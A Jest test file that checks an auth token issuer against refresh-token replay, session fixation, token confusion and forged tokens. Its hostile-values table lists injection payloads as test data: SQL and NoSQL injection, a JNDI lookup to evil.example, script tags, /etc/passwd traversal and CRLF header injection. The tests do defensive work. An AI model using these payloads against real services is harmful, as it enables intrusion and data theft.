import type { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import type { APIGatewayProxyResult } from 'aws-lambda';
import { UNAUTHORIZED } from '../../lambda/authorizer/handler';
import { generateKeySet, type KeySet } from '../../lambda/core/keys';
import { deriveRefreshToken, parseRefreshToken } from '../../lambda/core/refresh-token';
import { freshTable } from '../support/dynamodb';
import { FrozenClock } from '../support/fixtures';
import {
  authorizerEvent,
  buildAuthorizer,
  buildIssuer,
  claimsOf,
  cookieValue,
  FORM_TYPE,
  JSON_TYPE,
  login,
  proxyEvent,
  refresh,
  STACK_TRACE,
  scanTable,
  seedUsers,
  USERS,
  WEB_ORIGIN,
} from './harness';

// Refresh-token and session attacks through the real issuer handler over a real DynamoDB Local table.
// Engine-level branches (rotation, grace, generation ahead, races) are in test/core/session-service.test.ts.

const GRACE_SECONDS = 10;

let client: DynamoDBClient;
let tableName: string;
let keys: KeySet;

beforeAll(async () => {
  ({ client, tableName } = await freshTable());
  keys = await generateKeySet({ now: Date.now() });
  await seedUsers(client, tableName);
});

afterAll(() => client.destroy());

/** Every issuer log line of this file, and every token the issuer handed out: checked at the end. */
const allLines: string[][] = [];
const allTokens = new Set<string>();

function setup() {
  const clock = new FrozenClock();
  const built = buildIssuer({
    client,
    tableName,
    keys,
    clock: clock.now,
    refreshGraceSeconds: GRACE_SECONDS,
  });
  allLines.push(built.lines);
  const handler: typeof built.handler = async (event) => {
    const response = await built.handler(event);
    if (response.statusCode === 200 && response.body.includes('access_token')) {
      allTokens.add(String(bodyOf(response).access_token));
      allTokens.add(refreshTokenOf(response));
    }
    return response;
  };
  return { ...built, clock, handler };
}

function bodyOf(response: APIGatewayProxyResult): Record<string, unknown> {
  return JSON.parse(response.body) as Record<string, unknown>;
}

function refreshTokenOf(response: APIGatewayProxyResult): string {
  const body = bodyOf(response);
  return typeof body.refresh_token === 'string'
    ? body.refresh_token
    : cookieValue(String(response.multiValueHeaders?.['Set-Cookie']?.[0] ?? ''));
}

async function sessionItem(sid: string) {
  return (await scanTable(client, tableName)).get(`SESSION#${sid}`);
}

function listSessions(handler: ReturnType<typeof setup>['handler'], accessToken: string) {
  return handler(
    proxyEvent('GET', '/auth/sessions', { headers: { Authorization: `Bearer ${accessToken}` } }),
  );
}

describe('replay of rotated refresh tokens (theft detection)', () => {
  test('a rotated token replayed after the grace window: 400 invalid_grant, the session revoked, one security event', async () => {
    const { handler, clock, securityEvents } = setup();
    const session = await login(handler);
    const rotated = await refresh(handler, session.refreshToken);
    expect(rotated.statusCode).toBe(200);
    const successor = refreshTokenOf(rotated);
    clock.advance(GRACE_SECONDS + 1);

    const replay = await refresh(handler, session.refreshToken);

    expect(replay.statusCode).toBe(400);
    expect(bodyOf(replay)).toEqual({ error: 'invalid_grant', error_description: 'invalid grant' });
    expect(securityEvents).toEqual([
      {
        type: 'refresh_token_reuse',
        sid: session.sid,
        sub: USERS.alice.userId,
        clientId: 'native',
        presentedGeneration: 0,
        currentGeneration: 1,
      },
    ]);
    expect((await sessionItem(session.sid))?.revokedReason?.S).toBe('refresh_token_reuse');
    // The whole family is dead: the legitimate successor and the session's access tokens.
    expect((await refresh(handler, successor)).statusCode).toBe(400);
    expect((await listSessions(handler, String(bodyOf(rotated).access_token))).statusCode).toBe(401);
  });

  test('a grandparent replayed even inside the grace window is reuse; the parent there gets the same successor', async () => {
    const { handler, securityEvents } = setup();
    const session = await login(handler);
    const first = refreshTokenOf(await refresh(handler, session.refreshToken));
    const second = refreshTokenOf(await refresh(handler, first));

    // Control: the parent inside the grace window is a concurrent refresh, not theft.
    const parentReplay = await refresh(handler, first);
    expect(parentReplay.statusCode).toBe(200);
    expect(refreshTokenOf(parentReplay)).toBe(second);
    expect(securityEvents).toEqual([]);

    const grandparent = await refresh(handler, session.refreshToken);

    expect(grandparent.statusCode).toBe(400);
    expect(securityEvents).toMatchObject([
      { sid: session.sid, presentedGeneration: 0, currentGeneration: 2 },
    ]);
    expect((await refresh(handler, second)).statusCode).toBe(400);
  });
});

describe('replay after logout', () => {
  test.each([
    ['the bearer token', 'bearer'],
    ['the refresh token', 'refresh'],
  ] as const)(
    'after a logout with %s, old and current refresh tokens are refused without a security event',
    async (_name, how) => {
      const { handler, clock, securityEvents } = setup();
      const session = await login(handler);
      const rotated = await refresh(handler, session.refreshToken);
      const current = refreshTokenOf(rotated);
      const logout = await handler(
        how === 'bearer'
          ? proxyEvent('POST', '/auth/logout', {
              headers: { Authorization: `Bearer ${String(bodyOf(rotated).access_token)}` },
            })
          : proxyEvent('POST', '/auth/logout', {
              headers: FORM_TYPE,
              body: `refresh_token=${current}&client_id=native`,
            }),
      );
      expect(logout.statusCode).toBe(204);
      clock.advance(GRACE_SECONDS + 1);

      for (const token of [session.refreshToken, current]) {
        const replay = await refresh(handler, token);
        expect(replay.statusCode).toBe(400);
        expect(bodyOf(replay)).toMatchObject({ error: 'invalid_grant' });
      }

      expect(securityEvents).toEqual([]);
      expect((await sessionItem(session.sid))?.revokedReason?.S).toBe('logout');
    },
  );
});

describe('a refresh token of another client', () => {
  test.each(['cli', 'web'])(
    'a native refresh token presented as client %s is refused and the session is untouched',
    async (other) => {
      const { handler, securityEvents } = setup();
      const session = await login(handler);
      const before = await sessionItem(session.sid);

      const stolen = await refresh(handler, session.refreshToken, other);

      expect(stolen.statusCode).toBe(400);
      expect(bodyOf(stolen)).toMatchObject({ error: 'invalid_grant' });
      expect(await sessionItem(session.sid)).toEqual(before);
      expect(securityEvents).toEqual([]);
      // RFC 7009 under the other client revokes nothing either.
      const revoke = await handler(
        proxyEvent('POST', '/auth/revoke', {
          headers: FORM_TYPE,
          body: `token=${session.refreshToken}&client_id=cli`,
        }),
      );
      expect(revoke.statusCode).toBe(200);
      expect(await sessionItem(session.sid)).toEqual(before);
      // The rightful client still refreshes with the same token.
      expect((await refresh(handler, session.refreshToken)).statusCode).toBe(200);
    },
  );
});

describe('token type confusion', () => {
  test('an access token presented as a refresh token is refused with 400 invalid_grant (body and cookie)', async () => {
    const { handler } = setup();
    const session = await login(handler);
    const web = await login(handler, USERS.alice, 'web');
    for (const [token, clientId] of [
      [session.accessToken, 'native'],
      [web.accessToken, 'web'],
    ] as const) {
      const response = await refresh(handler, token, clientId);
      expect(response.statusCode).toBe(400);
      expect(bodyOf(response)).toMatchObject({ error: 'invalid_grant' });
    }
  });

  test('a refresh token presented as a bearer token is refused by the issuer (401) and the authorizer', async () => {
    const { handler } = setup();
    const session = await login(handler);
    const response = await listSessions(handler, session.refreshToken);
    expect(response.statusCode).toBe(401);
    expect(response.headers?.['WWW-Authenticate']).toBe('Bearer error="invalid_token"');
    const { handler: authorizer, lines } = buildAuthorizer({ client, tableName, keys });
    await expect(authorizer(authorizerEvent(`Bearer ${session.refreshToken}`))).rejects.toThrow(UNAUTHORIZED);
    expect(JSON.parse(lines[0] ?? '{}')).toMatchObject({ reason: 'malformed' });
  });
});

describe('hostile refresh token values: 400, never 500', () => {
  const hostile: ReadonlyArray<readonly [string, string | (() => string), string]> = [
    ['empty', '', 'invalid_request'],
    ['82 characters of A', 'A'.repeat(82), 'invalid_grant'],
    ['huge (15000 characters)', 'A'.repeat(15_000), 'invalid_grant'],
    ['non-ASCII letters', 'é'.repeat(82), 'invalid_grant'],
    ['emoji (82 UTF-16 units)', '🔑'.repeat(41), 'invalid_grant'],
    ['NUL characters', '\u0000'.repeat(82), 'invalid_grant'],
    ['SQL injection', "' OR '1'='1' --", 'invalid_grant'],
    ['NoSQL injection', '{"$ne":null}', 'invalid_grant'],
    ['a DynamoDB key', 'SESSION#AAAAAAAAAAAAAAAAAAAAAA', 'invalid_grant'],
    ['JNDI lookup', '$\u007bjndi:ldap://evil.example/a}', 'invalid_grant'],
    ['script', '<script>alert(1)</script>', 'invalid_grant'],
    ['path traversal', '../../../../etc/passwd', 'invalid_grant'],
    ['CRLF header injection', 'x\r\nSet-Cookie: refresh_token=attacker', 'invalid_grant'],
    ['padded base64url', `${'A'.repeat(80)}==`, 'invalid_grant'],
    ['standard base64 alphabet', `${'A'.repeat(80)}+/`, 'invalid_grant'],
  ];

  test.each(hostile)('%s in the body (native)', async (_name, value, error) => {
    const { handler, securityEvents } = setup();
    const token = typeof value === 'string' ? value : value();
    const response = await handler(
      proxyEvent('POST', '/auth/token', {
        headers: FORM_TYPE,
        body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: token }).toString(),
      }),
    );
    expect(response.statusCode).toBe(400);
    expect(bodyOf(response)).toMatchObject({ error });
    expect(response.body).not.toMatch(STACK_TRACE);
    if (token.length > 3) expect(response.body).not.toContain(token);
    expect(securityEvents).toEqual([]);
  });

  test.each(hostile.filter(([, value]) => typeof value === 'string' && !/[\r\n;]/.test(value)))(
    '%s in the cookie (web)',
    async (_name, value, error) => {
      const { handler } = setup();
      const response = await refresh(handler, String(value), 'web');
      expect(response.statusCode).toBe(400);
      expect(bodyOf(response)).toMatchObject({ error });
      expect(response.body).not.toMatch(STACK_TRACE);
    },
  );

  test('a token for a real session under a forged MAC key with the real kid: refused, nothing revoked', async () => {
    const { handler, securityEvents } = setup();
    const session = await login(handler);
    const parts = parseRefreshToken(session.refreshToken);
    const before = await sessionItem(session.sid);
    const forged = deriveRefreshToken(
      { kid: parts.macKid, secret: Buffer.alloc(32, 7).toString('base64url'), createdAt: 0 },
      session.sid,
      parts.generation + 5,
      'AAAAAAAAAAAAAAAAAAAAAA',
      parts.subjectKey ?? '',
    );
    const tampered = `${session.refreshToken.slice(0, -2)}${session.refreshToken.endsWith('AA') ? 'AQ' : 'AA'}`;
    for (const token of [forged, tampered]) {
      const response = await refresh(handler, token);
      expect(response.statusCode).toBe(400);
      expect(bodyOf(response)).toMatchObject({ error: 'invalid_grant' });
    }
    expect(await sessionItem(session.sid)).toEqual(before);
    expect(securityEvents).toEqual([]);
    // The logout path ignores a forged token as well: a forger who knows a sid logs no one out.
    const logout = await handler(
      proxyEvent('POST', '/auth/logout', {
        headers: FORM_TYPE,
        body: `refresh_token=${forged}&client_id=native`,
      }),
    );
    expect(logout.statusCode).toBe(204);
    expect(await sessionItem(session.sid)).toEqual(before);
  });
});

describe('session fixation: a login never adopts what the client brought', () => {
  test.each(['web', 'native'])(
    'a %s login carrying another user’s refresh cookie and a made-up sid creates a fresh session',
    async (clientId) => {
      const { handler } = setup();
      const victim = await login(handler, USERS.bob, 'web');
      const madeUpSid = 'FIXATEDFIXATEDFIXATEDA';
      const before = await sessionItem(victim.sid);

      const response = await handler(
        proxyEvent('POST', '/auth/login', {
          headers: {
            ...JSON_TYPE,
            Cookie: `refresh_token=${victim.refreshToken}; sid=${madeUpSid}; session=${victim.sid}`,
            Origin: WEB_ORIGIN,
          },
          body: JSON.stringify({
            username: USERS.alice.username,
            password: USERS.alice.password,
            client_id: clientId,
            sid: victim.sid,
            session_id: madeUpSid,
            refresh_token: victim.refreshToken,
          }),
        }),
      );

      expect(response.statusCode).toBe(200);
      const claims = claimsOf(String(bodyOf(response).access_token));
      expect(claims.sub).toBe(USERS.alice.userId);
      expect([victim.sid, madeUpSid]).not.toContain(claims.sid);
      const issued = refreshTokenOf(response);
      expect(issued).not.toBe(victim.refreshToken);
      expect(parseRefreshToken(issued).sid).toBe(claims.sid);
      const items = await scanTable(client, tableName);
      expect(items.get(`SESSION#${victim.sid}`)).toEqual(before);
      expect(items.has(`SESSION#${madeUpSid}`)).toBe(false);
      // The victim's session still works, and is still the victim's.
      const victimRefresh = await refresh(handler, victim.refreshToken, 'web');
      expect(victimRefresh.statusCode).toBe(200);
      expect(claimsOf(String(bodyOf(victimRefresh).access_token))).toMatchObject({
        sub: USERS.bob.userId,
        sid: victim.sid,
      });
    },
  );

  test('a login by the same user with their own old cookie leaves the old session as it was', async () => {
    const { handler } = setup();
    const old = await login(handler, USERS.alice, 'web');
    const before = await sessionItem(old.sid);
    const again = await login(handler, USERS.alice, 'web', { Cookie: `refresh_token=${old.refreshToken}` });
    expect(again.sid).not.toBe(old.sid);
    expect(await sessionItem(old.sid)).toEqual(before);
  });
});

describe('logging out someone else’s session has no effect', () => {
  test('DELETE /auth/sessions/{id} of another user’s session is 404 and their session keeps working', async () => {
    const { handler } = setup();
    const attacker = await login(handler, USERS.alice);
    const victim = await login(handler, USERS.bob);
    const before = await sessionItem(victim.sid);
    const remove = (id: string) =>
      handler(
        proxyEvent('DELETE', '/auth/sessions/{id}', {
          headers: { Authorization: `Bearer ${attacker.accessToken}` },
          path: { id },
        }),
      );

    // Over DynamoDB's 2048-byte key limit: was a 503 (ValidationException) before the issuer checked the id.
    const oversized = ['x'.repeat(3000), 'é'.repeat(1500)];
    for (const id of [victim.sid, `${victim.sid}' OR '1'='1`, 'SESSION#x', '', '../x', ...oversized]) {
      const response = await remove(id);
      expect(response.statusCode).toBe(404);
      expect(bodyOf(response)).toEqual({ error: 'not_found', error_description: 'no such session' });
    }
    // Logout with the attacker's bearer and the victim's refresh token logs the attacker out, never the victim.
    const logout = await handler(
      proxyEvent('POST', '/auth/logout', {
        headers: { ...FORM_TYPE, Authorization: `Bearer ${attacker.accessToken}` },
        body: `refresh_token=${victim.refreshToken}&client_id=native`,
      }),
    );
    expect(logout.statusCode).toBe(204);
    expect((await sessionItem(attacker.sid))?.revokedReason?.S).toBe('logout');

    expect(await sessionItem(victim.sid)).toEqual(before);
    expect((await listSessions(handler, victim.accessToken)).statusCode).toBe(200);
    expect((await refresh(handler, victim.refreshToken)).statusCode).toBe(200);
    // Control: the owner deleting it is 204, so the 404 above was about ownership.
    const own = await handler(
      proxyEvent('DELETE', '/auth/sessions/{id}', {
        headers: { Authorization: `Bearer ${victim.accessToken}` },
        path: { id: victim.sid },
      }),
    );
    expect(own.statusCode).toBe(204);
  });
});

describe('log hygiene of this file', () => {
  test('no issuer log line of the attacks above holds a token the issuer handed out', () => {
    const text = allLines.flat().join('\n');
    expect(allTokens.size).toBeGreaterThan(40);
    expect(text.length).toBeGreaterThan(1000);
    for (const token of allTokens) expect(text).not.toContain(token.slice(-40));
  });
});
